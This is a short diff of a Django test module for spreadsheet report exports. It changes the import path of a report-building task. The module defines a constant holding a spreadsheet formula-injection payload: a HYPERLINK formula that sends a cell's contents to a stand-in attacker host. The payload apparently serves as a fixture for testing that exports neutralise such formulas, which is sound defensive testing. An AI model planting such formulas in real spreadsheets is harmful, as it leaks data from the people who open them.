@@ -10,12 +10,12 @@ from django.test import Client
 from openpyxl import load_workbook
 
 from cooperation.models import ReportJob
-from cooperation.reports.tasks import build_report_pack
 from cooperation.spreadsheets import Sheet, csv_text, neutralised, workbook_bytes
 from cooperation.tests.factories import CooperationFieldFactory
 from dispatch.choices import DeploymentStatus
 from dispatch.tests.factories import DeploymentFactory, ExpertFactory
 from programs.tests.factories import ProjectFactory
+from reports.tasks import build_report_pack
 from trainees.tests.factories import TraineeFactory
 
 PLANTED = '=HYPERLINK("http://attacker.example/?"&L2,"details")'
